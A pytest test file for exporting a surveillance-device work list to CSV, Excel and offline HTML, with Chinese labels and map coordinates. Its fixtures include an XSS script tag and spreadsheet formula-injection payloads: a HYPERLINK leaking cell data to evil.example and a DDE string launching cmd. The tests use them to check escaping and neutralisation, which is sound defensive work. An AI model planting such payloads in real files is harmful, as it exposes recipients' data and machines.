"""Work list export: the CSV contract scripts read, the Excel workbook, the printable HTML."""

from __future__ import annotations

import csv
import errno
import re
from datetime import date
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest
from pyproj import CRS, Transformer
from shapely.geometry import LineString, Point, Polygon

from planner.core.chinese_coords import wgs84_to_bd09, wgs84_to_gcj02
from planner.core.errors import InputError
from planner.core.project import Project
from planner.core.survey import CONFLICT_COLUMNS, INTACT_COLUMNS, WORKLIST_COLUMNS
from planner.io.worklist import (
    CHINESE_LONLAT_COLUMNS,
    CODE_COLUMNS,
    LEADING_COLUMNS,
    TABLE_COLUMNS,
    table_headers,
    worklist_table,
    write_worklist_csv,
    write_worklist_xlsx,
)
from planner.report.worklist_report import OSM_CREDIT, worklist_html
from planner.services.worklist import write_worklist

CRS_4547 = CRS.from_epsg(4547)  # CGCS2000 / 3-degree Gauss-Kruger CM 114E
LON, LAT = 114.0578123, 22.5431456
TO_METRIC = Transformer.from_crs("EPSG:4326", CRS_4547, always_xy=True)
X, Y = TO_METRIC.transform(LON, LAT)


def _row(device_id: str, finding: str, priority: int, **fields: object) -> dict[str, object]:
    row: dict[str, object] = {c: "" for c in WORKLIST_COLUMNS}
    row.update(
        device_id=device_id,
        pole_no=f"P-{device_id}",
        finding=finding,
        rule="Q/H 2023 Art. 9",
        action="relocate",
        priority=priority,
        sources="police; 物业",
        device_key=f"k-{device_id}",
    )
    row.update(fields)
    return row


def _worklist() -> gpd.GeoDataFrame:
    rows = [
        _row("D1", "forbidden_placement", 1, owner="青岛市某物业公司", detail="朝向卧室窗户"),
        _row("D2", "derelict", 2, owner="<script>alert(1)</script>", contact="张三 138"),
        _row("D3", "unregistered", 3, detail="no coordinates anywhere"),
        _row("D1", "no_sign", 4, detail="second finding, same device"),
    ]
    geometry = [Point(X, Y), Point(X + 15, Y - 10), None, Point(X, Y)]
    return gpd.GeoDataFrame(rows, geometry=geometry, crs=CRS_4547)


def _intact() -> pd.DataFrame:
    head = ("group_by", "name", "devices", "intact", "rate", "required", "meets", "rule")
    table = pd.DataFrame(
        [
            ("owner", "青岛市某物业公司", 10, 7, 0.7, 0.9, False, "Art. 12"),
            ("district", "市南区", 20, 19, 0.95, 0.9, True, "Art. 12"),
            ("maintainer", "ACME", 5, 5, 1.0, np.nan, np.nan, ""),
        ],
        columns=list(head),
    )
    # no platform source: the engine's online and connection columns are empty
    table["basis"] = ["rule", "rule", "none"]
    table["reference"] = ""
    for column in INTACT_COLUMNS[len(head) :]:
        if column not in table:
            table[column] = np.nan if column.endswith("_rate") else 0
    return table[list(INTACT_COLUMNS)]


def _conflicts() -> pd.DataFrame:
    return pd.DataFrame(
        [("k-D1", "D1", "owner", "police row 3: A; 物业 row 7: B", "", False, "")],
        columns=list(CONFLICT_COLUMNS),
    )


def _project_with_buildings() -> Project:
    empty = Project.empty(CRS_4547)
    building = Polygon([(X + 5, Y + 5), (X + 20, Y + 5), (X + 20, Y + 20), (X + 5, Y + 20)])
    far = Polygon([(X + 900, Y), (X + 910, Y), (X + 910, Y + 10)])
    buildings = gpd.GeoDataFrame(
        {c: [None, None] for c in empty.buildings.columns if c != "geometry"},
        geometry=[building, far],
        crs=CRS_4547,
    )
    roads = gpd.GeoDataFrame(
        {c: [None] for c in empty.roads.columns if c != "geometry"},
        geometry=[LineString([(X - 100, Y - 3), (X + 100, Y - 3)])],
        crs=CRS_4547,
    )
    return empty.with_layers(buildings=buildings, roads=roads)


# --- the flat table and CSV ---------------------------------------------------------------


def test_table_puts_the_contract_columns_first() -> None:
    table = worklist_table(_worklist())
    assert tuple(table.columns[: len(LEADING_COLUMNS)]) == (
        "device_id",
        "pole_no",
        "lon",
        "lat",
        "finding",
        "rule",
        "action",
        "priority",
        "sources",
    )
    assert set(table.columns) == (
        set(WORKLIST_COLUMNS) | {"lon", "lat"} | set(CODE_COLUMNS) | set(CHINESE_LONLAT_COLUMNS)
    )
    assert list(table["priority"]) == [1, 2, 3, 4]


def test_csv_header_lonlat_chinese_and_a_bom_for_excel(tmp_path: Path) -> None:
    path = tmp_path / "work.csv"
    write_worklist_csv(path, _worklist())
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel on Chinese Windows reads it as UTF-8
    assert (
        raw.decode("utf-8-sig")
        .splitlines()[0]
        .startswith("device_id,pole_no,lon,lat,finding,rule,action,priority,sources")
    )
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert list(rows[0]) == list(TABLE_COLUMNS)
    assert [r["device_id"] for r in rows] == ["D1", "D2", "D3", "D1"]
    assert float(rows[0]["lon"]) == pytest.approx(LON, abs=1e-6)
    assert float(rows[0]["lat"]) == pytest.approx(LAT, abs=1e-6)
    assert len(rows[0]["lon"].split(".")[1]) == 7
    assert rows[0]["owner"] == "青岛市某物业公司"
    assert rows[0]["sources"] == "police; 物业"
    assert rows[2]["lon"] == "" and rows[2]["lat"] == ""
    assert rows[2]["priority"] == "3"


def test_csv_keeps_line_breaks_inside_one_cell(tmp_path: Path) -> None:
    worklist = _worklist()
    worklist.loc[0, "detail"] = "line one\nline two"
    path = tmp_path / "work.csv"
    write_worklist_csv(path, worklist)
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert rows[0]["detail"] == "line one\nline two"
    assert len(rows) == 4


class _Unprintable:
    def __str__(self) -> str:
        raise RuntimeError("disk full, say")


def test_failed_write_leaves_existing_file_and_no_temporary(tmp_path: Path) -> None:
    path = tmp_path / "work.csv"
    write_worklist_csv(path, _worklist())
    before = path.read_bytes()
    broken = _worklist()
    broken["detail"] = broken["detail"].astype(object)
    broken.at[3, "detail"] = _Unprintable()  # fails after the first rows are written
    with pytest.raises(RuntimeError):
        write_worklist_csv(path, broken)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["work.csv"]


def test_every_writer_leaves_no_temporary_files(tmp_path: Path) -> None:
    for name in ("a.csv", "b.xlsx", "c.html", "d.htm"):
        write_worklist(tmp_path / name, _worklist(), intact=_intact(), title="t")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "b.xlsx", "c.html", "d.htm"]


def test_unknown_extension_names_the_file(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"work\.pdf"):
        write_worklist(tmp_path / "work.pdf", _worklist())
    assert list(tmp_path.iterdir()) == []


# --- Excel ---------------------------------------------------------------------------------


def test_xlsx_has_three_sheets_and_the_same_rows(tmp_path: Path) -> None:
    path = tmp_path / "work.xlsx"
    worklist = _worklist()
    worklist.loc[1, "detail"] = '=HYPERLINK("x")'  # untrusted text must stay text
    write_worklist_xlsx(
        path, worklist, intact=_intact(), conflicts=_conflicts(), title="示例 work list"
    )
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Work list", "Intact rate", "Conflicts"]
    assert book.properties.title == "示例 work list"

    sheet = book["Work list"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == TABLE_COLUMNS
    table = worklist_table(worklist)
    expected = [
        tuple(None if pd.isna(v) or v == "" else v for v in r)
        for r in table.astype(object).itertuples(index=False, name=None)
    ]
    detail = TABLE_COLUMNS.index("detail")
    assert rows[2][detail] == '\'=HYPERLINK("x")'  # neutralised: a spreadsheet shows text
    expected[1] = (*expected[1][:detail], rows[2][detail], *expected[1][detail + 1 :])
    assert [tuple(None if v == "" else v for v in r) for r in rows[1:]] == expected
    assert isinstance(rows[1][TABLE_COLUMNS.index("priority")], int)
    assert rows[1][TABLE_COLUMNS.index("owner")] == "青岛市某物业公司"
    assert sheet.cell(row=3, column=TABLE_COLUMNS.index("detail") + 1).data_type == "s"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref.startswith("A1:")
    assert sheet["A1"].font.bold

    intact = book["Intact rate"]
    assert [c.value for c in intact[1]] == list(INTACT_COLUMNS)
    rate = intact.cell(row=2, column=INTACT_COLUMNS.index("rate") + 1)
    assert rate.value == pytest.approx(0.7) and "%" in rate.number_format
    below, meets = intact["A2"].fill.fill_type, intact["A3"].fill.fill_type
    assert (below, meets) == ("solid", None)
    assert intact.cell(row=4, column=INTACT_COLUMNS.index("required") + 1).value is None

    conflicts = list(book["Conflicts"].iter_rows(values_only=True))
    assert conflicts[0] == CONFLICT_COLUMNS
    assert conflicts[1][3] == "police row 3: A; 物业 row 7: B"


def test_xlsx_without_side_tables_still_has_their_headers(tmp_path: Path) -> None:
    path = tmp_path / "work.xlsx"
    write_worklist(path, _worklist())
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Work list", "Intact rate", "Conflicts"]
    assert book["Intact rate"].max_row == 1
    assert [c.value for c in book["Conflicts"][1]] == list(CONFLICT_COLUMNS)


# --- HTML ----------------------------------------------------------------------------------


def _page(**kw: object) -> str:
    return worklist_html(_worklist(), as_of=date(2026, 11, 25), **kw)  # type: ignore[arg-type]


def test_html_has_one_card_per_row_and_one_map_per_located_row() -> None:
    page = _page(intact=_intact(), conflicts=_conflicts(), title="示例小区 work list")
    assert page.count('<article class="card">') == 4
    assert page.count("<svg") == 3
    assert "Position unknown" in page
    assert "2026-11-25" in page
    assert "示例小区 work list" in page and "青岛市某物业公司" in page
    assert "Noto Sans CJK SC" in page
    assert "break-inside: avoid" in page and "size: A4" in page
    # priorities in order, each a heading
    assert page.index("Priority 1") < page.index("Priority 2") < page.index("Priority 4")


def test_html_escapes_inventory_text() -> None:
    page = _page()
    assert "<script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_html_loads_nothing_from_the_network() -> None:
    page = _page(project=_project_with_buildings(), intact=_intact())
    assert not re.search(r"""(src|href)\s*=\s*["']?\s*(https?:)?//""", page, re.IGNORECASE)
    assert "@import" not in page and "url(" not in page


def test_html_credits_osm_only_when_a_project_map_is_drawn() -> None:
    assert OSM_CREDIT not in _page()
    page = _page(project=_project_with_buildings())
    assert OSM_CREDIT in page
    # the near building is drawn (clipped into the map), the far one is not queried
    assert page.count('fill="#d8d8d8"') == 3


def test_html_draws_other_devices_but_not_the_same_device_twice() -> None:
    page = _page()
    maps = re.findall(r"<svg.*?</svg>", page)
    faint = [m.count('stroke="#777"') for m in maps]
    # D1 sees D2 (15 m away) and D2 sees D1 once, though D1 has two rows
    assert faint == [1, 1, 1]


def test_html_of_a_thousand_rows_has_a_map_each() -> None:
    # speed: benchmarks/bench_reconcile.py (work list step), not a wall-clock assert here
    rng = np.random.default_rng(4)
    n = 1000
    rows = [_row(f"D{i}", "derelict", 1 + i % 3) for i in range(n)]
    points = [Point(X + dx, Y + dy) for dx, dy in rng.uniform(-500, 500, (n, 2))]
    worklist = gpd.GeoDataFrame(rows, geometry=points, crs=CRS_4547)
    page = worklist_html(worklist, project=_project_with_buildings())
    assert page.count("<svg") == n


def test_html_in_chinese_for_the_offices() -> None:
    intact = _intact()
    intact.loc[2, "name"] = "(unowned)"  # the engine's placeholder in the maintainer group
    page = _page(intact=intact, conflicts=_conflicts(), language="zh")
    assert '<html lang="zh-CN">' in page
    assert page.index("优先级1") < page.index("优先级2") < page.index("优先级4")
    for label in ("禁止安装部位", "处置措施", "完好率", "台账之间的冲突", "位置不详", "经办人"):
        assert label in page, label
    assert "Priority 1" not in page and "Action" not in page
    assert "共4项问题，涉及3台设备" in page
    assert "（无维护单位）" in page and "运行异常或被遮挡" in page
    english = _page(language="en")
    assert '<html lang="en">' in english and "禁止安装部位" not in english
    with pytest.raises(ValueError, match="language"):
        _page(language="fr")


def test_a_figure_the_ruleset_does_not_set_is_a_reference_not_the_basis(tmp_path: Path) -> None:
    intact = _intact()
    intact["rule"] = ""
    intact["basis"] = "reference"
    intact["reference"] = "Harbin Measures Art. 25(3)"
    page = _page(intact=intact, language="zh")
    harbin = "《哈尔滨市公共视频图像信息系统管理办法（试行）（征求意见稿）》第二十五条第（三）项"
    # said once above the table, for comparison only; no verdict column
    assert f"参照{harbin}规定的" in page and "仅供对照，不作为认定依据" in page
    assert "是否达标" not in page and "✗" not in page
    english = _page(intact=intact)
    assert "of Harbin Measures Art. 25(3)" in english and "for comparison only" in english
    path = tmp_path / "清单.xlsx"
    write_worklist_xlsx(path, _worklist(), intact=intact, language="zh")
    rows = list(openpyxl.load_workbook(path)["完好率"].iter_rows(values_only=True))
    assert rows[1][INTACT_COLUMNS.index("basis")] == "参照"
    assert rows[1][INTACT_COLUMNS.index("reference")] == harbin
    assert rows[1][INTACT_COLUMNS.index("rule")] is None  # never the basis


def test_html_cards_give_the_position_for_chinese_map_apps() -> None:
    page = _page(language="zh")
    gcj_lon, gcj_lat = wgs84_to_gcj02(LON, LAT)
    bd_lon, bd_lat = wgs84_to_bd09(LON, LAT)
    assert f"{gcj_lon:.7f}, {gcj_lat:.7f}" in page and "经纬度（高德/腾讯）" in page
    assert f"{bd_lon:.7f}, {bd_lat:.7f}" in page and "经纬度（百度）" in page
    assert f"{LON:.7f}, {LAT:.7f}" in page and "经纬度（WGS84）" in page
    english = _page()
    assert "GCJ-02" in english and "BD-09" in english


# --- Chinese work lists ------------------------------------------------------------------------


def _chinese_rows(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    """Header and rows of a Chinese CSV, the rows keyed by column code."""
    with path.open(encoding="utf-8-sig", newline="") as stream:
        reader = csv.reader(stream)
        header = next(reader)
        return header, [dict(zip(TABLE_COLUMNS, row, strict=True)) for row in reader]


def test_a_chinese_csv_reads_chinese_and_keeps_the_codes(tmp_path: Path) -> None:
    path = tmp_path / "清单.csv"
    worklist = _worklist()
    worklist["rule"] = "Qingdao Measures Art. 19(3)"
    worklist["sources"] = "filings;survey;物业二"
    write_worklist_csv(path, worklist, language="zh")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    header, rows = _chinese_rows(path)
    assert header == table_headers(TABLE_COLUMNS, "zh")
    assert header[:9] == [
        "设备编号", "杆号", "经度（WGS84）", "纬度（WGS84）", "问题", "依据", "处置措施", "优先级",
        "来源",
    ]  # fmt: skip
    assert "finding_code" in header and "action_code" in header and "权属单位" in header
    assert [r["finding_code"] for r in rows] == [
        "forbidden_placement", "derelict", "unregistered", "no_sign",
    ]  # fmt: skip
    assert [r["finding"] for r in rows] == [
        "禁止安装部位",
        "运行异常或被遮挡",
        "未备案",
        "未设置明显标识",
    ]
    assert rows[0]["action_code"] == "relocate" and rows[0]["action"] == "迁移"
    assert rows[0]["rule"] == "《青岛市公共安全视频图像信息系统管理办法》第十九条第（三）项"
    assert rows[0]["sources"] == "公安备案、实地核查、物业二"
    assert rows[0]["owner"] == "青岛市某物业公司"


def test_the_map_app_columns_are_near_wgs84_in_china(tmp_path: Path) -> None:
    path = tmp_path / "work.csv"
    write_worklist_csv(path, _worklist())
    with path.open(encoding="utf-8-sig", newline="") as stream:
        first, _, unlocated, _ = list(csv.DictReader(stream))
    to_metric = Transformer.from_crs("EPSG:4326", CRS_4547, always_xy=True)
    x, y = to_metric.transform(float(first["lon"]), float(first["lat"]))
    for datum in ("gcj02", "bd09"):
        lon, lat = float(first[f"lon_{datum}"]), float(first[f"lat_{datum}"])
        shifted = np.hypot(*np.subtract(to_metric.transform(lon, lat), (x, y)))
        assert 50 < shifted < 1500, (datum, shifted)  # shifted, but in the same district
        assert len(first[f"lon_{datum}"].split(".")[1]) == 7
    assert float(first["lon_gcj02"]) == pytest.approx(wgs84_to_gcj02(LON, LAT)[0], abs=1e-6)
    assert float(first["lat_bd09"]) == pytest.approx(wgs84_to_bd09(LON, LAT)[1], abs=1e-6)
    assert all(unlocated[c] == "" for c in CHINESE_LONLAT_COLUMNS)


def test_a_chinese_workbook_names_its_sheets_groups_and_answers_in_chinese(
    tmp_path: Path,
) -> None:
    path = tmp_path / "清单.xlsx"
    intact = _intact()
    intact.loc[2, "name"] = "(unowned)"  # the engine's placeholder for a maintainer group
    write_worklist_xlsx(path, _worklist(), intact=intact, conflicts=_conflicts(), language="zh")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["整改清单", "完好率", "台账冲突"]
    rows = list(book["整改清单"].iter_rows(values_only=True))
    assert list(rows[0]) == table_headers(TABLE_COLUMNS, "zh")
    assert rows[1][TABLE_COLUMNS.index("finding_code")] == "forbidden_placement"
    assert rows[1][TABLE_COLUMNS.index("finding")] == "禁止安装部位"
    gcj = book["整改清单"].cell(row=2, column=TABLE_COLUMNS.index("lon_gcj02") + 1)
    assert gcj.number_format == "0.0000000"
    intact_rows = list(book["完好率"].iter_rows(values_only=True))
    assert list(intact_rows[0]) == table_headers(INTACT_COLUMNS, "zh")
    assert [r[0] for r in intact_rows[1:]] == ["权属单位", "区县", "维护单位"]
    assert intact_rows[3][1] == "（无维护单位）"
    assert [r[INTACT_COLUMNS.index("meets")] for r in intact_rows[1:]] == ["否", "是", None]
    assert book["完好率"]["A2"].fill.fill_type == "solid"  # below the minimum, still marked
    conflicts = list(book["台账冲突"].iter_rows(values_only=True))
    assert conflicts[1][CONFLICT_COLUMNS.index("field")] == "权属单位"
    assert conflicts[1][CONFLICT_COLUMNS.index("settled")] == "否"


def test_an_unknown_language_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="language"):
        write_worklist_csv(tmp_path / "w.csv", _worklist(), language="fr")
    assert list(tmp_path.iterdir()) == []


# --- untrusted text and failing disks -------------------------------------------------------

DANGEROUS = {
    "owner": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "maintainer": "+1+1",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact": "\t=1+1",
    "project_name": "  -2+3",
    "district": "\r=1",
}
HARMLESS = {"pole_no": "-3.5", "detail": "a - b = c", "device_id": "+7"}


def _dangerous_worklist() -> gpd.GeoDataFrame:
    worklist = _worklist()
    for column, value in {**DANGEROUS, **HARMLESS}.items():
        worklist[column] = worklist[column].astype(object)
        worklist.at[0, column] = value
    return worklist


def test_csv_cells_a_spreadsheet_would_run_get_an_apostrophe(tmp_path: Path) -> None:
    path = tmp_path / "work.csv"
    write_worklist_csv(path, _dangerous_worklist())
    with path.open(encoding="utf-8-sig", newline="") as stream:
        first = next(iter(csv.DictReader(stream)))
    for column, value in DANGEROUS.items():
        assert first[column] == "'" + value, column
    for column, value in HARMLESS.items():
        assert first[column] == value, column


def test_xlsx_cells_a_spreadsheet_would_run_get_an_apostrophe(tmp_path: Path) -> None:
    path = tmp_path / "work.xlsx"
    write_worklist_xlsx(path, _dangerous_worklist())
    sheet = openpyxl.load_workbook(path)["Work list"]
    first = dict(
        zip(TABLE_COLUMNS, next(sheet.iter_rows(min_row=2, values_only=True)), strict=True)
    )
    for column, value in DANGEROUS.items():
        assert first[column] == "'" + value.replace("\r", "\n"), column  # XML reads CR as LF
        assert not str(first[column]).startswith(("=", "+", "-", "@"))
    for column, value in HARMLESS.items():
        assert first[column] == value, column


@pytest.mark.parametrize("name", ["work.csv", "work.xlsx", "work.html"])
def test_unwritable_targets_give_an_input_error_naming_the_file(
    tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    with pytest.raises(InputError, match="a-file"):
        write_worklist(blocker / name, _worklist())
    assert blocker.read_text() == "x"

    target = tmp_path / name
    write_worklist(target, _worklist())
    before = target.read_bytes()

    def full(*_: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("planner.io.files.replace_atomically", full)
    with pytest.raises(InputError, match=r"disk is full") as caught:
        write_worklist(target, _worklist(), title="again")
    assert name in str(caught.value)
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["a-file", name])
